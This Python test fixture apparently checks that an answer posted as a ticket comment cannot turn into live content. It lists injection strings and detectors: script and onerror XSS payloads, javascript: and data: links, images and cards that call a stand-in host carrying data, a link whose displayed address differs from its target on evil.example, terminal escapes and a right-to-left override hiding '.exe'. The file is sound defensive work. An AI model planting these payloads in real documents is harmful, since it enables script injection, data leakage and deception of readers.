"""Attacks by the answer on the ticket: what its comment is made of. Nothing is refused; all of it becomes plain."""

from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from typing import Any
from urllib.parse import urlsplit

PLAIN = "nothing is refused: it is made plain"
Node = Mapping[str, Any]


@dataclass(frozen=True)
class Trick:
    """Text of an answer, how a document shows that it worked, and the node in which it would have."""

    name: str
    text: str
    worked: Callable[[Any], bool]
    live: Node

    @property
    def document(self) -> Node:
        """The control: a document in which the trick has worked, which the check has to find."""
        return {"type": "doc", "content": [{"type": "paragraph", "content": [self.live]}]}


def nodes(document: Any) -> Iterator[Node]:
    """Every node and mark of a document."""
    if isinstance(document, Mapping):
        yield document
        document = list(document.values())
    for inner in document if isinstance(document, list) else ():
        yield from nodes(inner)


def _has(kind: str) -> Callable[[Any], bool]:
    return lambda document: any(node.get("type") == kind for node in nodes(document))


def _links_to(*schemes: str) -> Callable[[Any], bool]:
    return lambda document: any(
        str(node.get("attrs", {}).get("href", "")).startswith(schemes) for node in nodes(document)
    )


def _shows(character: str) -> Callable[[Any], bool]:
    return lambda document: any(character in str(node.get("text", "")) for node in nodes(document))


def _links_elsewhere(document: Any) -> bool:
    """Whether a link shows an address of another host than the one it leads to."""
    return any(
        urlsplit(node["text"]).hostname not in {None, urlsplit(mark["attrs"]["href"]).hostname}
        for node in nodes(document)
        for mark in node.get("marks", ())
        if mark["type"] == "link" and "://" in node.get("text", "")
    )


def _node(kind: str, **attributes: str) -> Node:
    return {"type": kind, "attrs": attributes}


def _text(text: str, *marks: Node) -> Node:
    return {"type": "text", "text": text, "marks": list(marks)}


_MENTION = _node("mention", id="5b10")
TRICKS = (
    Trick("a mention", "[~accountid:5b10] @[Somebody](5b10) <mention id='5b10'/>", _has("mention"), _MENTION),
    Trick("a mention as a node", '{"type": "mention", "attrs": {"id": "5b10"}}', _has("mention"), _MENTION),
    Trick(
        "raw HTML",
        "<script>alert(1)</script><img src=x onerror=alert(1)>",
        _has("extension"),
        _node("extension", extensionKey="html"),
    ),
    Trick(
        "a macro",
        "{html}<b>x</b>{html} {include:x}",
        _has("bodiedExtension"),
        _node("bodiedExtension", extensionKey="include"),
    ),
    Trick(
        "a link that is a program",
        "[x](javascript:alert(1)) [y](data:text/html,x)",
        _links_to("javascript:", "data:"),
        _text("x", _node("link", href="javascript:alert(1)")),
    ),
    Trick(
        "a picture that calls home",
        "![x](http://a.example/?carried)",
        _has("media"),
        _node("media", url="http://a.example/?carried"),
    ),
    Trick(
        "a card that calls home",
        "https://a.example/carried",
        _has("inlineCard"),
        _node("inlineCard", url="https://a.example/carried"),
    ),
    Trick(
        "a link that shows another address",
        "[https://good.example](https://evil.example/carried)",
        _links_elsewhere,
        _text("https://good.example", _node("link", href="https://evil.example/carried")),
    ),
    Trick("a terminal escape", "before \x1b]0;title\x07\x1b[2J after", _shows("\x1b"), _text("\x1b[2J")),
    Trick(
        "a text that runs backwards", "before \u202etxt.exe\u202c after", _shows("\u202e"), _text("\u202etxt")
    ),
)
SCHEMA: dict[str, Any] = {
    "type": "object",
    "additionalProperties": False,
    "required": ["summary"],
    "properties": {"summary": {"type": "string"}, "tricks": {"type": "array", "items": {"type": "string"}}},
}
REPORT = {"summary": "s", "tricks": [trick.text for trick in TRICKS]}
